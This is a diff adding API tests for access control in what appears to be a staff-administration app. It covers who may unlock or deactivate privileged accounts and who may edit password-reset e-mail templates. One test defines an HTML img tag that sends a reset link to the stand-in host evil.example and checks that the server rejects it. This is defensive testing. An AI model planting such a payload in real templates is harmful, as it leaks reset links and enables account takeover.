@@ -70,6 +70,23 @@ describe('somebody who changes users, and manages no roles', () => {
     expect((await clerk.call('PATCH', `/users/${clerk.userId}`, email())).status).toBe(200);
   });
 
+  test('keeps nobody out who holds a grant, and lets no such account be guessed at again', async () => {
+    const clerk = await memberWith(api, { matrix: { users: USERS } });
+    const shaper = await memberWith(api, { grants: ['customization', 'roles'] });
+    const other = await memberWith(api, { matrix: { leads: ['view'] } });
+    const doAll = async (who: StaffClient) => [
+      await clerk.call('POST', `/users/${who.userId}/unlock`),
+      await clerk.call('POST', `/users/${who.userId}/sign-out`),
+      await clerk.call('POST', `/users/${who.userId}/deactivate`),
+      await clerk.call('PATCH', `/users/${who.userId}`, { body: { active: false } }),
+    ];
+    expect((await doAll(shaper)).map(refusal)).toEqual(Array(4).fill(REFUSED));
+    expect((await doAll(other)).map(({ status }) => status)).toEqual([200, 200, 200, 200]);
+    await admin.call('POST', `/users/${shaper.userId}/deactivate`);
+    const again = await clerk.call('PATCH', `/users/${shaper.userId}`, { body: { active: true } });
+    expect(refusal(again)).toEqual(REFUSED);
+  });
+
   test('puts others into a team, not themselves', async () => {
     const clerk = await memberWith(api, { matrix: { users: USERS } });
     const other = await memberWith(api, {});
@@ -154,5 +171,47 @@ describe('somebody who customizes, and has no other right', () => {
       false,
     ]);
     expect(JSON.stringify(whole?.body)).toContain('Classified');
+  });
+});
+
+describe('somebody who writes the texts of e-mails', () => {
+  const SECRET = ['USER_PASSWORD_RESET', 'USER_INVITED'];
+  const LEAK = '<img src="https://evil.example/p?u={{ link | url_encode }}">';
+  const texts = (html: string) => ({ subject: 'Hello', html, text: 'Hello' });
+
+  test('does not say where the link goes that sets a password of somebody else', async () => {
+    const writer = await memberWith(api, {
+      matrix: { 'email-templates': ['view', 'update'] },
+      grants: ['customization'],
+    });
+    for (const code of SECRET) {
+      const path = `/email-templates/${code}`;
+      const body = texts('<a href="{{ link }}">Set it</a>');
+      expect(refusal(await writer.call('PUT', path, { body }))).toEqual(REFUSED);
+      expect((await admin.call('PUT', path, { body })).status).toBe(200);
+      expect((await writer.call('POST', `${path}/reset`)).status).toBe(200);
+    }
+    const { format, version } = await done(admin, 'GET', '/customization/export');
+    const item = { ...texts('<b>Hello</b>'), language: null, active: true };
+    const emailTemplates = SECRET.map((code) => ({ code, ...item }));
+    const body = { format, version, parts: { emailTemplates } };
+    const brought = await writer.call('POST', '/customization/import', { body });
+    const errors = bodyOf<{ errors: { code: string }[] }>(brought).errors.map(({ code }) => code);
+    expect([brought.status, errors]).toEqual([409, SECRET.map(() => 'administrator_required')]);
+    const other = await writer.call('PUT', '/email-templates/INVOICE_SENT', { body: texts('x') });
+    expect(other.status).toBe(200);
+  });
+
+  test('puts it nowhere but in an anchor or between words, administrators included', async () => {
+    for (const code of SECRET) {
+      const path = `/email-templates/${code}`;
+      const asked = [
+        await admin.call('PUT', path, { body: texts(LEAK) }),
+        await admin.call('POST', `${path}/preview`, { body: texts(LEAK) }),
+      ];
+      for (const { status, body } of asked) {
+        expect([status, body]).toMatchObject([422, { errors: [{ code: 'secret_link' }] }]);
+      }
+    }
   });
 });
